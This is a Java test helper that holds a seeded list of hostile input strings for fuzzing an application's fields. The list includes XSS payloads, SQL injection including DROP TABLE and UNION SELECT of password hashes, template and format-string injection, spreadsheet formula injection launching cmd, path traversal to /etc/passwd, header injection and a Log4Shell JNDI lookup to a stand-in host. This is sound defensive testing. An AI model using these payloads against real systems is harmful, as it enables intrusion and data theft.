package pl.paktometr.it;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * What people with bad intentions type into fields: markup, SQL, EL, formulas, formats, paths,
 * headers. Each, and pairs of them drawn by a seed, so that what stands beside matters too.
 */
final class AttackStrings {
    static final long SEED = 20_260_302;

    /** In a browser any script among them sets {@code window.pwned}. */
    static final List<String> ALL =
            List.of(
                    "<script>window.pwned=1</script>",
                    "\"><img src=x onerror=window.pwned=1>",
                    "'><svg/onload=window.pwned=1>",
                    "</textarea><script>window.pwned=1</script>",
                    "</title></main><iframe src=javascript:window.pwned=1>",
                    "\" autofocus onfocus=window.pwned=1 x=\"",
                    "javascript:window.pwned=1",
                    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
                    "<!--]]><![CDATA[<x>]]>",
                    "' OR '1'='1' -- ",
                    "'); DROP TABLE account; -- ",
                    "%' ESCAPE '!' UNION SELECT password_hash FROM account #",
                    "#{7*7} ${7*7} #{request.session.invalidate()}",
                    "{0} {1,number} {2,choice,0#a|1#b} %s%n%x",
                    "=HYPERLINK(\"http://elsewhere.example\",\"x\")",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+9)*cmd|' /C calc'!A0",
                    "=1+1;=1+1,=1+1",
                    "../../../../etc/passwd",
                    "..\\..\\windows\\win.ini%00.xlsx",
                    "x Set-Cookie: session=planted",
                    "${jndi:ldap://elsewhere.example/x}",
                    "\u202Excod.exe \uFEFFz\u200Bero");

    private AttackStrings() {}

    /** Every one of them, and as many drawn pairs as are wanted beyond. */
    static List<String> drawn(int wanted) {
        Random random = new Random(SEED);
        List<String> drawn = new ArrayList<>(ALL);
        while (drawn.size() < wanted) {
            drawn.add(one(random) + one(random));
        }
        return drawn;
    }

    private static String one(Random random) {
        return ALL.get(random.nextInt(ALL.size()));
    }
}
